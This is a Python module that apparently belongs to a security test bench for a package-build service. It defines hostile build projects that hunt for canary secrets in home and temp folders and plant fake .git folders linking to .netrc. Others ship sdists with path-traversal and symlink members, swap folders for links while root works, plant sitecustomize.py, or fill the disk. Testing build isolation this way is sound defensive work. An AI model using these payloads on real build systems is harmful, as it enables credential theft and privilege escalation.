"""Attacks by files: in the checkout, in what a build leaves, and under root's hands."""

import os
from pathlib import Path

from bench.attacks.attack import Attack

_HOLE = 300 * 2**30


def _odd_files(project: Path) -> None:
    folder = os.fsencode(project)
    for name in (b"\xff\xfe", b"new\nline", b"-rf", b" ", b"a" * 255):
        Path(os.fsdecode(folder + b"/" + name)).touch()
    with (project / "holes").open("wb") as file:
        file.truncate(_HOLE)
    os.mkfifo(project / "pipe")
    os.mknod(project / "socket", 0o140644)
    (project / "itself").symlink_to("itself")
    (project / "root").symlink_to("/")
    (project / "home").symlink_to("../../home")
    (project / "absolute").symlink_to(project.parent.parent / "home")
    here = os.open(project, os.O_RDONLY)
    for _ in range(1200):
        os.mkdir("deep", dir_fd=here)
        below = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def _linked_git(project: Path) -> None:
    other = project.parent.parent / f"home/{project.name}"
    _git(other)
    (project / ".git").symlink_to(other)


def _git_file(project: Path) -> None:
    other = project.parent.parent / f"home/{project.name}"
    _git(other)
    (project / ".git").write_text(f"gitdir: {other}\n")


def _git(folder: Path) -> None:
    secret = (folder.parent / ".netrc").read_text()
    for name in ("objects", "refs/heads", "refs/tags", "logs"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "config").write_text(f"[core]\n\tbare = false\n\tsshCommand = {secret[2:]}")
    (folder / "refs/tags/config-v1").write_text("0" * 40)
    (folder / "refs/heads/configure").write_text("0" * 40)
    (folder / "logs/HEAD").write_text(secret)
    (folder / "packed-refs").symlink_to("../.netrc")


def _git_of_links(project: Path) -> None:
    """Make a git folder in which links lead to secrets, and alternates and a worktree's folder outside."""
    git = project / ".git"
    git.mkdir()
    home = project.parent.parent / "home"
    for name in ("HEAD", "packed-refs", "index", "shallow"):
        (git / name).symlink_to(home / ".netrc")
    (git / "info").mkdir()
    (git / "info/exclude").symlink_to(home / ".netrc")
    (git / "refs").symlink_to(home)
    (git / "objects/info").mkdir(parents=True)
    (git / "objects/info/alternates").write_text(f"{home}\n../../../../home\n")
    (git / "commondir").write_text(f"{home}\n")


_GUEST = """
# Project 0 lets project 1 make folders in its tree, and ends.
NAMES = ("one", "two", "sub", "one/deep", "two/deep")

def wait(is_done):
    until = time.monotonic() + 20
    while not is_done() and time.monotonic() < until:
        time.sleep(0.0002)

def attack(folder):
    if NUMBER == 0:
        tree = os.path.dirname(HERE)
        for each in ("one", "two", "sub"):
            os.rename(f"{tree}/{each}", f"{HERE}/{each}")
        os.chmod(tree, 0o777)
        wait(lambda: os.path.exists(f"{TMP}/made"))
    if NUMBER == 1:
        os.umask(0)
        theirs = os.path.abspath(f"{HERE}/../../../../1/source/{os.path.basename(os.path.dirname(HERE))}")
        wait(lambda: os.access(theirs, os.W_OK))
        for each in NAMES:
            os.mkdir(f"{theirs}/{each}")
        folders = [os.open(f"{theirs}/{each}", os.O_RDONLY) for each in NAMES]
        open(f"{TMP}/made", "w").close()
        wait(lambda: not os.path.lexists(theirs))
        use(folders)
    return wheel(folder)
"""

FILES = (
    Attack(
        "secrets in its own tree, home and variables",
        """
def attack(folder):
    for name, value in os.environ.items():
        if "canary-" in value:
            note(f"read {value} in {name}")
    for top in (os.path.dirname(HERE), os.environ["HOME"], os.environ["TMPDIR"], sys.argv[-1]):
        for place, _, names in os.walk(top):
            for name in names:
                read(f"{place}/{name}")
    for place in (HERE, f"{HERE}/../mirror.git", f"{HERE}/../sub"):
        said = subprocess.run(["git", "config", "--list"], cwd=place, capture_output=True, text=True).stdout
        if "canary-" in said:
            note(f"read {said} from git")
""",
    ),
    Attack(
        "odd files in the checkout: names, 1,200 nested folders, a hole of 300 GiB, pipes, links out of it",
        prepare=_odd_files,
    ),
    Attack(
        "a .git that leads to another folder of the user, or to secrets",
        count=3,
        prepare=lambda project: (_linked_git, _git_file, _git_of_links)[int(project.name[-1])](project),
    ),
    Attack(
        "files that are hard to remove, or to read",
        r"""
def deep(folder):
    os.chdir(folder)
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")

def attack(folder):
    for place in (HERE, os.environ["HOME"], os.environ["TMPDIR"], folder):
        for name in (b"\xff\xfe", b"new\nline", b"-rf", b"a" * 255):
            open(os.fsencode(place) + b"/" + name, "w").close()
        os.mkfifo(f"{place}/pipe")
        os.mkdir(f"{place}/shut")
        open(f"{place}/shut/file", "w").close()
        os.chmod(f"{place}/shut", 0)
        deep(place)
    os.truncate(os.open(f"{HERE}/holes", os.O_CREAT | os.O_RDWR), 300 * 2**30)
    os.chdir("/")
    name = wheel(folder)
    os.chmod(HERE, 0)
    return name
""",
    ),
    Attack(
        "an sdist with odd contents",
        r"""
def sdist(folder):
    D, L, H, F = tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE
    top = member("evil-1.0", D, mode=0o755)
    secret = f"{GITHUB}/home/pyproject.toml"
    payloads = [
        [top, member("evil-1.0/pyproject.toml", L, secret)],
        [top, member("evil-1.0/pyproject.toml", L, "../../../../../../../.." + secret)],
        [top, member("evil-1.0/pyproject.toml", H, secret)],
        [top, member("evil-1.0/pyproject.toml", F)],
        [top, member("evil-1.0/pyproject.toml", D)],
        [top, member("evil-1.0/pyproject.toml", mode=0)],
        [top, member("other-1.0", D, mode=0o755)],
        [],
        [member("evil-1.0")],
        [member("evil-1.0", L, f"{GITHUB}/home")],
        [member("../evil-1.0/x")],
        [member("/tmp/evil-absolute")],
        [member("a/" * 1200 + "x")],
        [top, member("evil-1.0/\udcff\udcfe")],
        [member("evil-1.0", D, mode=0)],
        [member("evil-1.0/disk", tarfile.BLKTYPE)],
    ]
    if NUMBER == len(payloads):
        open(f"{folder}/evil-1.0.tar.gz", "w").close()
        return "evil-1.0.tar.gz"
    if NUMBER == len(payloads) + 1:
        os.symlink(f"{GITHUB}/home/.netrc", f"{folder}/evil-1.0.tar.gz")
        return "evil-1.0.tar.gz"
    if NUMBER == len(payloads) + 2:
        os.mkfifo(f"{folder}/evil-1.0.tar.gz")
        return "evil-1.0.tar.gz"
    return pack(folder, *payloads[NUMBER])
""",
        count=19,
        formats=("wheel", "sdist"),
    ),
    Attack(
        "an unpacked sdist that becomes a link, or a pipe",
        r"""
SECRET = f"{GITHUB}/home"

def replace():
    own = os.path.dirname(os.environ["TMPDIR"])
    while True:
        for tree in glob.glob(f"{own}/unpacked-*/evil-1.0"):
            file = f"{tree}/pyproject.toml"
            with contextlib.suppress(OSError):
                if NUMBER == 0:
                    os.unlink(file)
                    os.symlink(f"{SECRET}/pyproject.toml", file)
                if NUMBER == 1:
                    os.unlink(file)
                    os.mkfifo(file)
                if NUMBER >= 2:
                    os.rename(tree, f"{os.environ['TMPDIR']}/{time.monotonic()}")
                    os.symlink(SECRET, tree)
        time.sleep(0.0005)

def sdist(folder):
    begin()
    detached(replace, 2)
    return hostile.sdist(folder)
""",
        count=4,
        formats=("wheel", "sdist"),
    ),
    Attack(
        "an unpacked sdist that another project changes",
        r"""
def open_to_all():
    while True:
        for place in PLACES:
            with contextlib.suppress(OSError):
                os.chmod(place, 0o777)
                os.chmod(f"{place}/evil-1.0", 0o777)
        time.sleep(0.0005)

PLACES = [f"{os.path.dirname(os.environ['TMPDIR'])}/unpacked-{number}" for number in range(3, 9)]

def sdist(folder):
    detached(open_to_all)
    os.rename(f"{HERE}/pyproject.toml", f"{HERE}/settings.toml")
    os.symlink("settings.toml", f"{HERE}/pyproject.toml")
    return hostile.sdist(folder)

def requires():
    if NUMBER == 0 and not os.path.exists(f"{TMP}/once"):
        open(f"{TMP}/once", "w").close()
        run = os.path.abspath(f"{os.environ['TMPDIR']}/../..")
        places = [f"{run}/{each}/unpacked-{number}" for each in range(2, 7) for number in range(3, 9)]
        until = time.monotonic() + 15
        while time.monotonic() < until:
            for place in places:
                with contextlib.suppress(OSError):
                    os.symlink(f"{GITHUB}/home/pyproject.toml", f"{place}/evil-1.0/x")
                    while os.path.exists(place):
                        exchange(f"{place}/evil-1.0/pyproject.toml", f"{place}/evil-1.0/x")
                        time.sleep(0.0002)
    return []
""",
        count=6,
        jobs=2,
        formats=("wheel", "sdist"),
    ),
    Attack(
        "a pyproject.toml that grows",
        r"""
def sdist(folder):
    name = hostile.sdist(folder)
    os.truncate(f"{HERE}/pyproject.toml", 600 * 2**20)
    return name
""",
        formats=("wheel", "sdist"),
        exclusive=True,
    ),
    Attack(
        "folders that are swapped for links while root works",
        r"""
SECRETS = {
    0: ("hook-*/output.json", f"{GITHUB}/home/.netrc"),
    1: ("built-*/*", f"{GITHUB}/home/.netrc"),
    2: ("unpacked-*/evil-1.0", f"{GITHUB}/home"),
    3: ("unpacked-*/evil-1.0/pyproject.toml", f"{GITHUB}/home/pyproject.toml"),
    4: ("*-[0-9]*", f"{GITHUB}/home"),
}

def swap():
    pattern, secret = SECRETS[NUMBER]
    own = os.path.dirname(os.environ["TMPDIR"])
    aside = f"{os.environ['TMPDIR']}/{os.getpid()}"
    os.symlink(secret, aside)
    while True:
        for path in glob.glob(f"{own}/{pattern}"):
            exchange(path, aside)
            time.sleep(0.0005)
            exchange(path, aside)
        time.sleep(0.0005)

def sdist(folder):
    return hostile.sdist(folder)

def requires():
    begin()
    detached(swap)
    return []
""",
        count=5,
        formats=("wheel", "sdist"),
    ),
    Attack(
        "what it leaves in the tree that the next project gets",
        r"""
def attack(folder):
    name = wheel(folder)
    rights = b"".join(int(each).to_bytes(2, "little") + b"\0\0" + b"\xff" * 4 for each in (1, 4, 32))
    top = os.path.dirname(HERE)
    for place, folders, names in os.walk(top, topdown=False):
        if place.startswith(HERE):
            continue
        with contextlib.suppress(OSError):
            os.setxattr(place, "system.posix_acl_default", b"\x02\0\0\0" + rights)
        os.chmod(place, 0o7777)
        for each in names:
            os.unlink(f"{place}/{each}")
            [lambda path: os.symlink(f"{GITHUB}/home/.netrc", path), os.mkdir, os.mkfifo][NUMBER % 3](f"{place}/{each}")
        for each in folders[NUMBER % 2 :: 2]:
            os.rename(f"{place}/{each}", f"{place}/{each}.evil")
            os.symlink([GITHUB, WORKSPACE, f"{each}.evil"][NUMBER % 3], f"{place}/{each}")
        open(f"{place}/sitecustomize.py", "w").write("raise SystemExit")
        open(f"{place}/.gitignore", "w").write("*")
    return name
""",
        count=3,
        jobs=1,
        neighbours=("one", "two"),
    ),
    Attack(
        "folders of its tree in the hands of another project",
        r"""
import array
import socket

def spoil(folder):
    for name in os.listdir(folder):
        with contextlib.suppress(OSError):
            os.rename(name, name + "x", src_dir_fd=folder, dst_dir_fd=folder)
            os.symlink(f"{GITHUB}/home", name, dir_fd=folder)
        with contextlib.suppress(OSError):
            os.unlink(name, dir_fd=folder)
            os.rename(name + "x", name, src_dir_fd=folder, dst_dir_fd=folder)
    with contextlib.suppress(OSError):
        os.fchmod(folder, 0o777)
        os.close(os.open("sitecustomize.py", os.O_CREAT | os.O_WRONLY, dir_fd=folder))

def attack(folder):
    address = f"\0{WORKSPACE}"
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    if NUMBER % 2:
        channel.bind(address)
        channel.listen()
        channel.settimeout(10)
        with contextlib.suppress(OSError):
            giver, _ = channel.accept()
            _, folders, _, _ = socket.recv_fds(giver, 1, 200)
            until = time.monotonic() + 4
            while time.monotonic() < until:
                for each in folders:
                    spoil(each)
    else:
        places = [place for place, _, _ in os.walk(os.path.dirname(HERE)) if ".git/" not in place][:100]
        for place in places:
            os.chmod(place, 0o777)
        until = time.monotonic() + 10
        while channel.connect_ex(address) and time.monotonic() < until:
            time.sleep(0.01)
        with contextlib.suppress(OSError):
            socket.send_fds(channel, [b"."], [os.open(each, os.O_RDONLY) for each in places])
            time.sleep(0.2)
    return wheel(folder)
""",
        count=2,
        jobs=2,
        neighbours=("one", "two"),
    ),
    Attack(
        "folders of its tree that belong to another project",
        _GUEST
        + r"""
def spoil(folder):
    os.fchmod(folder, 0o777)
    for name in os.listdir(folder):
        with contextlib.suppress(OSError):
            opened = os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=folder)
            if os.fstat(opened).st_uid not in (0, os.getuid()):
                note(f"worked: read {name} of another project")
            os.close(opened)
        os.rename(name, f"{name}x", src_dir_fd=folder, dst_dir_fd=folder)
        os.symlink(f"{GITHUB}/home", name, dir_fd=folder)
    os.close(os.open("sitecustomize.py", os.O_CREAT | os.O_WRONLY, dir_fd=folder))

def spoil_later(folder):
    wait(lambda: stat.S_IMODE(os.fstat(folder).st_mode) != 0o777)  # root uses it now
    while True:
        with contextlib.suppress(OSError):
            spoil(folder)

def use(folders):
    for each in folders:
        detached(lambda: spoil_later(each))
    time.sleep(4)
""",
        count=2,
        jobs=2,
        neighbours=("one", "two"),
    ),
    Attack(
        "folders of its tree that another project fills while root removes them",
        _GUEST
        + r"""
def fill(folder):
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError):
            os.mkdir(f"{os.getpid()}-{number}", dir_fd=folder)
            os.rmdir(f"{os.getpid()}-{number - 50}", dir_fd=folder)

def use(folders):
    for each in folders:
        detached(lambda: fill(each), 2)
    time.sleep(4)
""",
        count=2,
        jobs=2,
        neighbours=("one", "two"),
    ),
    Attack(
        "a full disk",
        r"""
def fill():
    while True:
        with contextlib.suppress(OSError), open(f"{os.environ['TMPDIR']}/{os.getpid()}", "ab") as file:
            while True:
                os.write(file.fileno(), bytes(65536))

def attack(folder):
    name = wheel(folder)
    detached(fill, 3)
    time.sleep(1)
    return name
""",
        disk="60m",
        formats=("wheel", "sdist"),
        exclusive=True,
    ),
    Attack(
        "a full disk before anything is built",
        disk="128k",
        formats=("wheel", "sdist"),
    ),
)
